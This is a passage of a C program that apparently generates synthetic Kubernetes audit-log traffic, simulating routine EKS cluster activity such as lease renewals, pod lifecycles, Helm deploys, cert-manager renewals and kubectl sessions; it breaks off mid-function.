/* Space-separated specs, each watched cluster-wide by who. */
static void add_watches(int who, int node, const char *specs)
{
    static char copy[8192];
    static size_t used;
    size_t n = strlen(specs) + 1;
    if (used + n > sizeof(copy)) {
        fputs("gen-audit: watch table too big\n", stderr);
        exit(1);
    }
    char *s = copy + used;
    memcpy(s, specs, n);
    used += n;
    for (char *tok = strtok(s, " "); tok != NULL; tok = strtok(NULL, " ")) {
        add_watch(who, node, tok, NULL, NULL);
    }
}

/* Leader elections: the holder renews every retry period, a standby polls as often. */
static const struct {
    int who;
    const char *ns, *name;
    unsigned period; /* seconds: client-go's retryPeriod */
    int standby;
} leaders[] = {
    {W_KCM, "kube-system", "kube-controller-manager", 2, 1},
    {W_SCHED, "kube-system", "kube-scheduler", 2, 1},
    {W_EKS_CCM, "kube-system", "cloud-controller-manager", 2, 1},
    {W_ALB, "kube-system", "aws-load-balancer-controller-leader", 2, 1},
    {W_CERTMGR, "kube-system", "cert-manager-controller", 15, 0},
    {W_CAINJ, "kube-system", "cert-manager-cainjector-leader-election", 15, 0},
};

static int64_t fire_leader(struct actor *a, int64_t now)
{
    struct req r;
    int64_t t = now;
    int i = a->idx;
    int64_t half = (int64_t)leaders[i].period * SEC / 2;
    int standby = leaders[i].standby && a->step++ % 2 == 1;
    cl_who(&r, leaders[i].who, -1);
    if (standby) {
        r.ip = "10.0.101.40";
    }
    cl_obj(&r, standby ? "get" : "update", "coordination.k8s.io", "v1", "leases", leaders[i].ns,
           leaders[i].name, NULL);
    cl_query(&r, "?timeout=5s");
    if (!standby && below(2000) == 0) {
        r.code = 409; /* another renewal won the race */
        r.reason = "Operation cannot be fulfilled on leases.coordination.k8s.io: the object has "
                   "been modified; please apply your changes to the latest version and try again";
    }
    cl_done(&r, &t);
    return now + (leaders[i].standby ? half : 2 * half) + below(100000);
}

/* The kubelet's Lease, every 10 s (renewInterval = 25% of nodeLeaseDurationSeconds 40). */
static int64_t fire_node_lease(struct actor *a, int64_t now)
{
    struct req r;
    int64_t t = now;
    cl_who(&r, -1, a->idx);
    cl_obj(&r, "update", "coordination.k8s.io", "v1", "leases", "kube-node-lease",
           nodes[a->idx].name, NULL);
    cl_query(&r, "?timeout=10s");
    cl_done(&r, &t);
    return now + 10 * SEC + below(100000);
}

/* Node status: get from the cache, then a patch (nodeStatusReportFrequency 5 min, sooner on
 * change); after an image pull the patch carries the image list. */
static int64_t fire_node_status(struct actor *a, int64_t now)
{
    struct req r;
    int64_t t = now;
    struct node *n = &nodes[a->idx];
    cl_who(&r, -1, a->idx);
    cl_obj(&r, "get", NULL, "v1", "nodes", NULL, n->name, NULL);
    cl_query(&r, "?resourceVersion=0&timeout=10s");
    cl_done(&r, &t);
    body_req.len = body_resp.len = 0;
    cl_who(&r, -1, a->idx);
    cl_obj(&r, "patch", NULL, "v1", "nodes", NULL, n->name, "status");
    cl_query(&r, "?timeout=10s");
    node_status(&body_req, chance(5));
    r.reqobj = &body_req;
    cl_done(&r, &t);
    return now + secs(60, 300);
}

/* Projected service-account tokens: the kubelet refreshes each at 80% of 3607 s, about
 * 20 pods a node. */
static int64_t fire_node_token(struct actor *a, int64_t now)
{
    struct req r;
    int64_t t = now;
    struct node *n = &nodes[a->idx];
    const struct app *ap = &apps[n->apps[below((unsigned)n->napps)]];
    cl_who(&r, -1, a->idx);
    cl_obj(&r, "create", NULL, "v1", "serviceaccounts", ap->ns, ap->name, "token");
    cl_done(&r, &t);
    return now + secs(72, 216);
}

/* The kubelet's webhook authn/authz of its own API callers (metrics-server scraping
 * /metrics/resource, i.e. nodes/metrics; kubectl logs through the API server): cached
 * for 2 and 5 minutes. */
static int64_t fire_node_reviews(struct actor *a, int64_t now)
{
    struct req r;
    int64_t t = now;
    cl_who(&r, -1, a->idx);
    cl_obj(&r, "create", "authentication.k8s.io", "v1", "tokenreviews", NULL, NULL, NULL);
    cl_done(&r, &t);
    if (chance(50)) {
        cl_who(&r, -1, a->idx);
        cl_obj(&r, "create", "authorization.k8s.io", "v1", "subjectaccessreviews", NULL, NULL,
               NULL);
        cl_done(&r, &t);
    }
    return now + secs(120, 300);
}

/* Each API server: its identity Lease and the kubernetes Service's endpoints every 10 s, the
 * system namespaces every minute. */
static int64_t fire_apiserver(struct actor *a, int64_t now)
{
    struct req r;
    int64_t t = now;
    char lease[64];
    snprintf(lease, sizeof(lease), "apiserver-%.32s", a->pod);
    cl_who(&r, W_APISERVER, -1);
    cl_obj(&r, "update", "coordination.k8s.io", "v1", "leases", "kube-system", lease, NULL);
    cl_done(&r, &t);
    cl_who(&r, W_APISERVER, -1);
    cl_obj(&r, "get", NULL, "v1", "endpoints", "default", "kubernetes", NULL);
    cl_done(&r, &t);
    cl_who(&r, W_APISERVER, -1);
    cl_obj(&r, "get", "discovery.k8s.io", "v1", "endpointslices", "default", "kubernetes", NULL);
    cl_done(&r, &t);
    if (++a->step % 6 == 0) {
        static const char *const sys[] = {"kube-system", "kube-public", "kube-node-lease",
                                          "default"};
        for (int i = 0; i < 4; i++) {
            cl_who(&r, W_APISERVER, -1);
            cl_obj(&r, "get", NULL, "v1", "namespaces", NULL, sys[i], NULL);
            cl_done(&r, &t);
        }
    }
    return now + 10 * SEC + below(50000);
}

static int app_on_some_node(int app)
{
    for (int tries = 0; tries < 32; tries++) {
        int n = (int)below(CL_NODES);
        for (int i = 0; i < nodes[n].napps; i++) {
            if (nodes[n].apps[i] == app) {
                return n;
            }
        }
    }
    return (int)below(CL_NODES);
}

/* A pod starts: created by its controller, bound by the scheduler, started by the kubelet
 * (token, status patches), then in the Service's endpoints. */
static int64_t fire_pod(struct actor *a, int64_t now)
{
    struct req r;
    int64_t t = now;
    struct app *ap = &apps[a->idx];
    struct node *n = &nodes[a->node];
    body_req.len = body_resp.len = 0;
    switch (a->step++) {
    case 0:
        pod_name(a->pod, sizeof(a->pod), ap);
        cl_who(&r, ap->kind == 0 ? W_RS : ap->kind == 1 ? W_JOB : W_DS, -1);
        cl_obj(&r, "create", NULL, "v1", "pods", ap->ns, NULL, NULL);
        cl_pod(&body_req, ap, NULL, ap->kind == 2 ? n->name : NULL);
        cl_pod(&body_resp, ap, a->pod, ap->kind == 2 ? n->name : NULL);
        r.reqobj = &body_req;
        r.respobj = &body_resp;
        cl_done(&r, &t);
        if (ap->kind == 0) {
            char rs[96];
            snprintf(rs, sizeof(rs), "%s-%s", ap->name, ap->hash);
            body_req.len = 0;
            cl_who(&r, W_RS, -1);
            cl_obj(&r, "update", "apps", "v1", "replicasets", ap->ns, rs, "status");
            putf(&body_req,
                 "{\"kind\":\"ReplicaSet\",\"apiVersion\":\"apps/v1\",\"metadata\":{"
                 "\"name\":\"%s\",\"namespace\":\"%s\"},\"status\":{\"replicas\":3,"
                 "\"fullyLabeledReplicas\":3,\"observedGeneration\":%u}}",
                 rs, ap->ns, 1 + ap->rev);
            r.reqobj = r.respobj = &body_req;
            if (chance(3)) {
                r.code = 409;
                r.reason = "Operation cannot be fulfilled on replicasets.apps: the object has been "
                           "modified; please apply your changes to the latest version and try "
                           "again";
                r.respobj = NULL;
            }
            cl_done(&r, &t);
        }
        return t + 5000 + below(40000);
    case 1:
        if (ap->kind != 2) {
            cl_who(&r, W_SCHED, -1);
            cl_obj(&r, "create", NULL, "v1", "pods", ap->ns, a->pod, "binding");
            putf(&body_req,
                 "{\"kind\":\"Binding\",\"apiVersion\":\"v1\",\"metadata\":{\"name\":"
                 "\"%s\",\"namespace\":\"%s\"},\"target\":{\"kind\":\"Node\","
                 "\"name\":\"%s\"}}",
                 a->pod, ap->ns, n->name);
            puts_(&body_resp, "{\"kind\":\"Status\",\"apiVersion\":\"v1\",\"metadata\":{},"
                              "\"status\":\"Success\",\"code\":201}");
            r.reqobj = &body_req;
            r.respobj = &body_resp;
            cl_done(&r, &t);
        }
        return t + secs(0, 1);
    case 2: /* the kubelet: the pod's projected token, then Pending */
        cl_who(&r, -1, a->node);
        cl_obj(&r, "create", NULL, "v1", "serviceaccounts", ap->ns, ap->name, "token");
        cl_done(&r, &t);
        /* fallthrough */
    case 3: /* running, not ready (after pulling the image) */
    case 4: /* ready */
        cl_who(&r, -1, a->node);
        cl_obj(&r, "patch", NULL, "v1", "pods", ap->ns, a->pod, "status");
        pod_status_patch(&body_req, (int)a->step - 3);
        r.reqobj = &body_req;
        if (a->step == 5 && chance(2)) {
            r.code = 409;
            r.reason = "Operation cannot be fulfilled on pods: the object has been modified";
        }
        cl_done(&r, &t);
        if (a->step < 5) {
            return t + (a->step == 3 ? secs(2, 12) : secs(3, 15));
        }
        if (ap->kind == 0) {
            char eps[96];
            char sfx[6];
            suffix(sfx, sizeof(sfx));
            snprintf(eps, sizeof(eps), "%s-%s", ap->name, sfx);
            cl_who(&r, W_EPS, -1);
            cl_obj(&r, "update", "discovery.k8s.io", "v1", "endpointslices", ap->ns, eps, NULL);
            cl_done(&r, &t);
            cl_who(&r, W_EP, -1);
            cl_obj(&r, "update", NULL, "v1", "endpoints", ap->ns, ap->name, NULL);
            cl_done(&r, &t);
        }
        return -1;
    }
    return -1;
}

/* A pod goes away: its controller deletes it (or a finished Job's TTL, then the garbage
 * collector), the kubelet reports it terminated and removes it after the grace period. */
static int64_t fire_poddel(struct actor *a, int64_t now)
{
    struct req r;
    int64_t t = now;
    struct app *ap = &apps[a->idx];
    body_req.len = body_resp.len = 0;
    if (a->step++ == 0) {
        pod_name(a->pod, sizeof(a->pod), ap);
        if (ap->kind == 1) {
            char job[96];
            snprintf(job, sizeof(job), "%s-%u", ap->name, 28600000 + below(99999));
            cl_who(&r, W_TTL, -1);
            cl_obj(&r, "delete", "batch", "v1", "jobs", ap->ns, job, NULL);
            puts_(&body_req, "{\"kind\":\"DeleteOptions\",\"apiVersion\":\"batch/v1\","
                             "\"propagationPolicy\":\"Background\"}");
            r.reqobj = &body_req;
            cl_done(&r, &t);
        }
        cl_who(&r, ap->kind == 1 ? W_GC : ap->kind == 2 ? W_PODGC : W_RS, -1);
        cl_obj(&r, "delete", NULL, "v1", "pods", ap->ns, a->pod, NULL);
        cl_pod(&body_resp, ap, a->pod, nodes[a->node].name);
        r.respobj = &body_resp;
        cl_done(&r, &t);
        return ap->kind == 2 ? -1 : t + secs(1, 30);
    }
    cl_who(&r, -1, a->node);
    cl_obj(&r, "patch", NULL, "v1", "pods", ap->ns, a->pod, "status");
    pod_status_patch(&body_req, 3);
    r.reqobj = &body_req;
    cl_done(&r, &t);
    cl_who(&r, -1, a->node);
    cl_obj(&r, "delete", NULL, "v1", "pods", ap->ns, a->pod, NULL);
    body_req.len = 0;
    puts_(&body_req, "{\"kind\":\"DeleteOptions\",\"apiVersion\":\"v1\",\"gracePeriodSeconds\":0,"
                     "\"preconditions\":{\"uid\":\"");
    char uid[37];
    uuid(uid);
    putf(&body_req, "%s\"}}", uid);
    r.reqobj = &body_req;
    if (chance(3)) {
        r.code = 404; /* already gone */
        r.reason = "pods not found";
    }
    cl_done(&r, &t);
    return -1;
}

/* Routine pod churn: a pod replaced every 15 to 45 s (CronJobs, evictions, restarts). */
static int64_t fire_churn(struct actor *a, int64_t now)
{
    (void)a;
    int app = (int)below(N_USER_APPS);
    struct actor *p = spawn(K_POD, app, now);
    p->node = app_on_some_node(app);
    struct actor *d = spawn(K_PODDEL, app, now + secs(20, 40));
    d->node = app_on_some_node(app);
    return now + secs(15, 45);
}

/* The HPA controller: every 15 s per HPA, the pods' metrics and the scale subresource. */
static int64_t fire_hpa(struct actor *a, int64_t now)
{
    struct req r;
    int64_t t = now;
    const struct app *ap = &apps[a->idx];
    cl_who(&r, W_HPA, -1);
    cl_obj(&r, "list", "metrics.k8s.io", "v1beta1", "pods", ap->ns, NULL, NULL);
    cl_query(&r, "?labelSelector=app.kubernetes.io%%2Fname%%3D%s", ap->name);
    cl_done(&r, &t);
    cl_who(&r, W_HPA, -1);
    cl_obj(&r, "get", "apps", "v1", "deployments", ap->ns, ap->name, "scale");
    cl_done(&r, &t);
    if (chance(40)) {
        cl_who(&r, W_HPA, -1);
        cl_obj(&r, "update", "autoscaling", "v2", "horizontalpodautoscalers", ap->ns, ap->name,
               "status");
        cl_done(&r, &t);
    }
    return now + 15 * SEC + below(30000);
}

/* cert-manager: certificates across namespaces reconciled (their Secrets read), one renewed
 * now and then (a CertificateRequest, the Secret updated). */
static int64_t fire_certmgr(struct actor *a, int64_t now)
{
    (void)a;
    struct req r;
    int64_t t = now;
    const struct app *ap = &apps[below(N_USER_APPS)];
    char name[96];
    snprintf(name, sizeof(name), "%s-tls", ap->name);
    cl_who(&r, W_CERTMGR, -1);
    cl_obj(&r, "get", NULL, "v1", "secrets", ap->ns, name, NULL);
    int missing = chance(3);
    if (missing) {
        r.code = 404; /* issued for the first time */
        r.reason = "secrets not found";
    }
    cl_done(&r, &t);
    if (missing || chance(15)) {
        cl_who(&r, W_CERTMGR, -1);
        cl_obj(&r, "create", "cert-manager.io", "v1", "certificaterequests", ap->ns, NULL, NULL);
        cl_done(&r, &t);
        cl_who(&r, W_CERTMGR, -1);
        cl_obj(&r, "update", "cert-manager.io", "v1", "certificaterequests", ap->ns, name,
               "status");
        cl_done(&r, &t);
        cl_who(&r, W_CERTMGR, -1);
        cl_obj(&r, missing ? "create" : "update", NULL, "v1", "secrets", ap->ns, name, NULL);
        cl_done(&r, &t);
        cl_who(&r, W_CERTMGR, -1);
        cl_obj(&r, "update", "cert-manager.io", "v1", "certificates", ap->ns, ap->name, "status");
        cl_done(&r, &t);
    }
    return now + secs(30, 120);
}

/* external-secrets: each ExternalSecret refreshed hourly (about 40 of them): the target Secret
 * read, updated when the provider's value changed, the status patched. */
static int64_t fire_eso(struct actor *a, int64_t now)
{
    (void)a;
    struct req r;
    int64_t t = now;
    const struct app *ap = &apps[below(N_USER_APPS)];
    char name[96];
    snprintf(name, sizeof(name), "%s-secrets", ap->name);
    cl_who(&r, W_ESO, -1);
    cl_obj(&r, "get", NULL, "v1", "secrets", ap->ns, name, NULL);
    cl_done(&r, &t);
    if (chance(10)) {
        cl_who(&r, W_ESO, -1);
        cl_obj(&r, "update", NULL, "v1", "secrets", ap->ns, name, NULL);
        cl_done(&r, &t);
    }
    cl_who(&r, W_ESO, -1);
    cl_obj(&r, "patch", "external-secrets.io", "v1beta1", "externalsecrets", ap->ns, ap->name,
           "status");
    cl_done(&r, &t);
    return now + secs(45, 135);
}

static void rollout(int app, int64_t at);

/* Argo CD: each Application's status patched at its 3-minute refresh; an out-of-sync one is
 * synced now and then (its Deployment patched). */
static int64_t fire_argo(struct actor *a, int64_t now)
{
    (void)a;
    struct req r;
    int64_t t = now;
    int app = (int)below(N_USER_APPS);
    const struct app *ap = &apps[app];
    cl_who(&r, W_ARGO, -1);
    cl_obj(&r, "patch", "argoproj.io", "v1alpha1", "applications", "argocd", ap->name, NULL);
    cl_done(&r, &t);
    if (chance(2)) {
        body_req.len = body_resp.len = 0;
        cl_who(&r, W_ARGO, -1);
        cl_obj(&r, "patch", "apps", "v1", "deployments", ap->ns, ap->name, NULL);
        putf(&body_req,
             "{\"metadata\":{\"annotations\":{\"argocd.argoproj.io/tracking-id\":"
             "\"%s:apps/Deployment:%s/%s\"}},\"spec\":{\"replicas\":3}}",
             ap->name, ap->ns, ap->name);
        puts_(&body_resp, "{\"kind\":\"Deployment\",\"apiVersion\":\"apps/v1\",");
        metadata(&body_resp, ap->name, ap->ns, 1);
        puts_(&body_resp, "}");
        r.reqobj = &body_req;
        r.respobj = &body_resp;
        cl_done(&r, &t);
        rollout(app, t);
    }
    return now + secs(12, 24);
}

/* A new ReplicaSet for a changed pod template; pods replaced two by two. */
static void rollout(int app, int64_t at)
{
    struct app *ap = &apps[app];
    struct req r;
    int64_t t = at;
    for (int i = 0; i < 10; i++) {
        ap->hash[i] = "bcdfghjklmnpqrstvwxz2456789"[below(27)];
    }
    ap->hash[10] = '\0';
    char rs[96];
    snprintf(rs, sizeof(rs), "%s-%s", ap->name, ap->hash);
    body_req.len = 0;
    cl_who(&r, W_DEPLOY, -1);
    cl_obj(&r, "create", "apps", "v1", "replicasets", ap->ns, NULL, NULL);
    putf(&body_req,
         "{\"kind\":\"ReplicaSet\",\"apiVersion\":\"apps/v1\",\"metadata\":{\"name\":"
         "\"%s\",\"namespace\":\"%s\"},\"spec\":{\"replicas\":1,\"template\":",
         rs, ap->ns);
    cl_pod(&body_req, ap, NULL, NULL);
    puts_(&body_req, "}}");
    r.reqobj = r.respobj = &body_req;
    cl_done(&r, &t);
    cl_who(&r, W_DEPLOY, -1);
    cl_obj(&r, "update", "apps", "v1", "deployments", ap->ns, ap->name, "status");
    body_req.len = 0;
    puts_(&body_req, "{\"kind\":\"Deployment\",\"apiVersion\":\"apps/v1\",");
    metadata(&body_req, ap->name, ap->ns, 1);
    puts_(&body_req, ",\"status\":{\"replicas\":4,\"updatedReplicas\":1}}");
    r.reqobj = r.respobj = &body_req;
    cl_done(&r, &t);
    for (int i = 0; i < 2; i++) {
        struct actor *p = spawn(K_POD, app, t + secs(1, 3) + (int64_t)i * 20 * SEC);
        p->node = app_on_some_node(app);
        struct actor *d = spawn(K_PODDEL, app, t + secs(25, 35) + (int64_t)i * 20 * SEC);
        d->node = app_on_some_node(app);
    }
}

/* Helm from CI: release history read, the chart's objects read and patched (ClusterIP Service,
 * ConfigMap, Deployment), the new release Secret stored, the old one marked superseded. */
static int64_t fire_deploy(struct actor *a, int64_t now)
{
    (void)a;
    struct req r;
    int64_t t = now;
    int app = (int)below(N_USER_APPS);
    struct app *ap = &apps[app];
    int who = chance(50) ? W_CI_SA : W_CI_IAM;
    char name[96];
    cl_who(&r, who, -1);
    cl_obj(&r, "list", NULL, "v1", "secrets", ap->ns, NULL, NULL);
    cl_query(&r, "?labelSelector=name%%3D%s%%2Cowner%%3Dhelm", ap->name);
    cl_done(&r, &t);
    snprintf(name, sizeof(name), "%s-config", ap->name);
    cl_who(&r, who, -1);
    cl_obj(&r, "get", NULL, "v1", "configmaps", ap->ns, name, NULL);
    cl_done(&r, &t);
    cl_who(&r, who, -1);
    cl_obj(&r, "get", NULL, "v1", "services", ap->ns, ap->name, NULL);
    cl_done(&r, &t);
    cl_who(&r, who, -1);
    cl_obj(&r, "get", "apps", "v1", "deployments", ap->ns, ap->name, NULL);
    cl_done(&r, &t);
    cl_who(&r, who, -1);
    cl_obj(&r, "patch", NULL, "v1", "configmaps", ap->ns, name, NULL);
    cl_done(&r, &t);
    body_req.len = body_resp.len = 0;
    cl_who(&r, who, -1);
    cl_obj(&r, "patch", NULL, "v1", "services", ap->ns, ap->name, NULL);
    puts_(&body_req, "{\"metadata\":{\"labels\":{\"helm.sh/chart\":\"app-1.4.2\"}}}");
    puts_(&body_resp, "{\"kind\":\"Service\",\"apiVersion\":\"v1\",");
    metadata(&body_resp, ap->name, ap->ns, 1);
    puts_(&body_resp, ",\"spec\":{\"type\":\"ClusterIP\",\"clusterIP\":\"172.20.");
    putf(&body_resp,
         "%u.%u\",\"ports\":[{\"port\":80,\"targetPort\":8080,\"protocol\":\"TCP\"}],"
         "\"selector\":{\"app.kubernetes.io/name\":\"%s\"}}}",
         below(250), 2 + below(250), ap->name);
    r.reqobj = &body_req;
    r.respobj = &body_resp;
    cl_done(&r, &t);
    body_req.len = body_resp.len = 0;
    cl_who(&r, who, -1);
    cl_obj(&r, "patch", "apps", "v1", "deployments", ap->ns, ap->name, NULL);
    putf(&body_req,
         "{\"spec\":{\"template\":{\"metadata\":{\"annotations\":{\"checksum/config\":"
         "\"%016llx\"}},\"spec\":{\"$setElementOrder/containers\":[{\"name\":\"%s\"}],"
         "\"containers\":[{\"name\":\"%s\",\"image\":\"%s\"}]}}}}",
         (unsigned long long)rnd(), ap->name, ap->name, ap->image);
    puts_(&body_resp, "{\"kind\":\"Deployment\",\"apiVersion\":\"apps/v1\",");
    metadata(&body_resp, ap->name, ap->ns, 1);
    puts_(&body_resp, "}");
    r.reqobj = &body_req;
    r.respobj = &body_resp;
    cl_done(&r, &t);
    snprintf(name, sizeof(name), "sh.helm.release.v1.%s.v%u", ap->name, ap->rev + 1);
    cl_who(&r, who, -1);
    cl_obj(&r, "create", NULL, "v1", "secrets", ap->ns, name, NULL);
    cl_done(&r, &t);
    snprintf(name, sizeof(name), "sh.helm.release.v1.%s.v%u", ap->name, ap->rev);
    cl_who(&r, who, -1);
    cl_obj(&r, "update", NULL, "v1", "secrets", ap->ns, name, NULL);
    cl_done(&r, &t);
    ap->rev++;
    rollout(app, t);
    return now + secs(900, 2700);
}

/* Someone opens a read-only kubectl session every 5 to 25 minutes. */
static int64_t fire_human(struct actor *a, int64_t now)
{
    (void)a;
    struct actor *s = spawn(K_SESSION, chance(25) ? W_ADMIN : W_ALICE, now);
    s->node = (int)below(N_USER_APPS); /* the app looked at */
    return now + secs(300, 1500);
}

/* One kubectl session, a command a step: discovery, get pods, a pod, its logs, deployments,
 * describe; the admin also lists nodes. */
static int64_t fire_session(struct actor *a, int64_t now)
{
    struct req r;
    int64_t t = now;
    int who = a->idx;
    struct app *ap = &apps[a->node];
    switch (a->step++) {
    case 0:
        if (chance(50)) { /* discovery, cached for 10 minutes by kubectl */
            cl_who(&r, who, -1);
            r.verb = "get";
            snprintf(r.uri, sizeof(r.uri), "/api?timeout=32s");
            cl_done(&r, &t);
            cl_who(&r, who, -1);
            r.verb = "get";
            snprintf(r.uri, sizeof(r.uri), "/apis?timeout=32s");
            cl_done(&r, &t);
        }
        cl_who(&r, who, -1);
        cl_obj(&r, "list", NULL, "v1", "pods", ap->ns, NULL, NULL);
        cl_query(&r, "?limit=500");
        cl_done(&r, &t);
        return t + secs(3, 20);
    case 1:
        pod_name(a->pod, sizeof(a->pod), ap);
        cl_who(&r, who, -1);
        cl_obj(&r, "get", NULL, "v1", "pods", ap->ns, a->pod, NULL);
        if (chance(8)) {
            r.code = 404; /* a pod that was just replaced */
            r.reason = "pods not found";
        }
        cl_done(&r, &t);
        return t + secs(2, 15);
    case 2: /* kubectl logs: a long-running request, so ResponseStarted first */
        cl_who(&r, who, -1);
        cl_obj(&r, "get", NULL, "v1", "pods", ap->ns, a->pod, "log");
        cl_query(&r, "?container=%s&tailLines=200", ap->name);
        r.started_code = 200;
        uuid(a->id);
        a->since = t;
        cl_emit(&r, a->id, "ResponseStarted", t, t + 2000 + below(20000));
        return t + secs(0, 2);
    case 3:
        cl_who(&r, who, -1);
        cl_obj(&r, "get", NULL, "v1", "pods", ap->ns, a->pod, "log");
        cl_query(&r, "?container=%s&tailLines=200", ap->name);
        cl_emit(&r, a->id, "ResponseComplete", a->since, t);
        return t + secs(5, 40);
    case 4:
        cl_who(&r, who, -1);
        cl_obj(&r, "list", "apps", "v1", "deployments", ap->ns, NULL, NULL);
        cl_query(&r, "?limit=500");
        cl_done(&r, &t);
        return t + secs(3, 30);
    case 5: /* kubectl describe deployment */
        cl_who(&r, who, -1);
        cl_obj(&r, "get", "apps", "v1", "deployments", ap->ns, ap->name, NULL);
        cl_done(&r, &t);
        cl_who(&r, who, -1);
        cl_obj(&r, "list", "apps", "v1", "replicasets", ap->ns, NULL, NULL);
        cl_query(&r, "?labelSelector=app.kubernetes.io%%2Fname%%3D%s", ap->name);
        cl_done(&r, &t);
        if (who != W_ADMIN) {
            return -1;
        }
        return t + secs(5, 60);
    default:
        cl_who(&r, who, -1);
        cl_obj(&r, "list", NULL, "v1", "nodes", NULL, NULL, NULL);
        cl_query(&r, "?limit=500");
        cl_done(&r, &t);
        return -1;
    }
}

/* A node replaced (managed node group update or the autoscaler): the new instance's kubelet
 * bootstraps with a token (client CSR, approved and signed by the controller manager),
 * registers, asks for a serving certificate (approved by eks:certificate-controller), gets its
 * DaemonSet pods; later the old Node is deleted by the cloud controller manager. */
static int64_t fire_join(struct actor *a, int64_t now)
{
    struct req r;
    int64_t t = now;
    char csr[32];
    int i = a->node;
    switch (a->step++) {
    case 0:
        a->node = i = a->idx++ % CL_NODES;
        snprintf(a->pod, sizeof(a->pod), "%s", nodes[i].name); /* the old node */
        node_make(i);
        cl_who(&r, W_BOOT, -1);
        r.ip = nodes[i].ip;
        cl_obj(&r, "create", "certificates.k8s.io", "v1", "certificatesigningrequests", NULL, NULL,
               NULL);
        cl_done(&r, &t);
        suffix(csr + 4, 6);
        memcpy(csr, "csr-", 4);
        snprintf(a->sel, sizeof(a->sel), "%s", csr);
        cl_who(&r, W_BOOT, -1);
        r.ip = nodes[i].ip;
        cl_obj(&r, "get", "certificates.k8s.io", "v1", "certificatesigningrequests", NULL, a->sel,
               NULL);
        cl_done(&r, &t);
        return t + secs(0, 1);
    case 1:
        cl_who(&r, W_KCM, -1);
        r.agent = KCM_UA "/system:serviceaccount:kube-system:certificate-controller";
        cl_obj(&r, "update", "certificates.k8s.io", "v1", "certificatesigningrequests", NULL,
               a->sel, "approval");
        cl_done(&r, &t);
        cl_who(&r, W_KCM, -1);
        r.agent = KCM_UA "/system:serviceaccount:kube-system:certificate-controller";
        cl_obj(&r, "update", "certificates.k8s.io", "v1", "certificatesigningrequests", NULL,
               a->sel, "status");
        cl_done(&r, &t);
        return t + secs(1, 3);
    case 2:
        cl_who(&r, -1, i);
        cl_obj(&r, "create", NULL, "v1", "nodes", NULL, NULL, NULL);
        cl_done(&r, &t);
        cl_who(&r, -1, i);
        cl_obj(&r, "create", "coordination.k8s.io", "v1", "leases", "kube-node-lease", NULL, NULL);
        cl_done(&r, &t);
        cl_who(&r, -1, i);
        cl_obj(&r, "create", "certificates.k8s.io", "v1", "certificatesigningrequests", NULL, NULL,
               NULL);
        cl_done(&r, &t);
        return t + secs(1, 3);
    case 3: {
        char csr2[16];
        memcpy(csr2, "csr-", 4);
        suffix(csr2 + 4, 6);
        cl_who(&r, W_EKS_CERT, -1);
        cl_obj(&r, "update", "certificates.k8s.io", "v1", "certificatesigningrequests", NULL, csr2,
               "approval");
        cl_done(&r, &t);
        cl_who(&r, W_KCM, -1);
        r.agent = KCM_UA "/system:serviceaccount:kube-system:certificate-controller";
        cl_obj(&r, "update", "certificates.k8s.io", "v1", "certificatesigningrequests", NULL, csr2,
               "status");
        cl_done(&r, &t);
        cl_who(&r, W_EKS_CCM, -1);
        cl_obj(&r, "patch", NULL, "v1", "nodes", NULL, nodes[i].name, NULL);
        cl_done(&r, &t);
        cl_who(&r, W_EKS_NODEMGR, -1);
        cl_obj(&r, "patch", NULL, "v1", "nodes", NULL, nodes[i].name, NULL);
        cl_done(&r, &t);
        spawn(K_POD, APP_AWS_NODE, t)->node = i;
        spawn(K_POD, APP_KUBE_PROXY, t + 20000)->node = i;
        return t + secs(120, 600);
    }
    default:
        cl_who(&r, W_EKS_CCM, -1);
        cl_obj(&r, "delete", NULL, "v1", "nodes", NULL, a->pod, NULL);
        cl_done(&r, &t);
        spawn(K_PODDEL, APP_AWS_NODE, t + 500000)->node = i;
        spawn(K_PODDEL, APP_KUBE_PROXY, t + 900000)->node = i;
        a->step = 0;
        return t + secs(3600, 7200);
    }
}

/* eks:certificate-controller keeps its lock in a ConfigMap, renewed every 2 s. */
static int64_t fire_eks_cert(struct actor *a, int64_t now)
{
    (void)a;
    struct req r;
    int64_t t = now;
    cl_who(&r, W_EKS_CERT, -1);
    cl_obj(&r, "update", NULL, "v1", "configmaps", "kube-system", "eks-certificates-controller",
           NULL);
    cl_done(&r, &t);
    return now + 2 * SEC + below(200000);
}

/* eks:node-manager reads aws-auth and the nodes of its node groups. */
static int64_t fire_eks_nodemgr(struct actor *a, int64_t now)
{
    (void)a;
    struct req r;
    int64_t t = now;
    cl_who(&r, W_EKS_NODEMGR, -1);
    cl_obj(&r, "get", NULL, "v1", "configmaps", "kube-system", "aws-auth", NULL);
    cl_done(&r, &t);
    cl_who(&r, W_EKS_NODEMGR, -1);
    cl_obj(&r, "list", NULL, "v1", "nodes", NULL, NULL, NULL);
    cl_query(&r, "?labelSelector=eks.amazonaws.com%%2Fnodegroup%%3Ddefault");
    cl_done(&r, &t);
    return now + secs(240, 360);
}

/* eks:addon-manager reconciles the managed add-ons (server-side apply, no change). */
static int64_t fire_eks_addon(struct actor *a, int64_t now)
{
    (void)a;
    struct req r;
    int64_t t = now;
    static const char *const ds[] = {"aws-node", "kube-proxy"};
    for (int i = 0; i < 2; i++) {
        cl_who(&r, W_EKS_ADDON, -1);
        cl_obj(&r, "get", "apps", "v1", "daemonsets", "kube-system", ds[i], NULL);
        cl_done(&r, &t);
        body_req.len = 0;
        cl_who(&r, W_EKS_ADDON, -1);
        cl_obj(&r, "patch", "apps", "v1", "daemonsets", "kube-system", ds[i], NULL);
        cl_query(&r, "?fieldManager=eks&force=true");
        putf(&body_req,
             "{\"apiVersion\":\"apps/v1\",\"kind\":\"DaemonSet\",\"metadata\":{"
             "\"name\":\"%s\",\"namespace\":\"kube-system\"}}",
             ds[i]);
        r.reqobj = r.respobj = &body_req;
        cl_done(&r, &t);
    }
    cl_who(&r, W_EKS_ADDON, -1);
    cl_obj(&r, "get", "apps", "v1", "deployments", "kube-system", "coredns", NULL);
    cl_done(&r, &t);
    cl_who(&r, W_EKS_ADDON, -1);
    cl_obj(&r, "get", NULL, "v1", "configmaps", "kube-system", "coredns", NULL);
    cl_done(&r, &t);
    cl_who(&r, W_EKS_ADDON, -1);
    cl_obj(&r, "get", NULL, "v1", "serviceaccounts", "kube-system", "aws-node", NULL);
    cl_done(&r, &t);
    return now + secs(800, 1000);
}

/* aws-load-balancer-controller installing (then, at each restart, updating) the ClusterRole
 * of its TargetGroupBinding and IngressClassParams APIs, with wildcard verbs. */
static int64_t fire_alb(struct actor *a, int64_t now)
{
    struct req r;
    int64_t t = now;
    body_req.len = 0;
    int install = a->step++ == 0;
    cl_who(&r, W_ALB, -1);
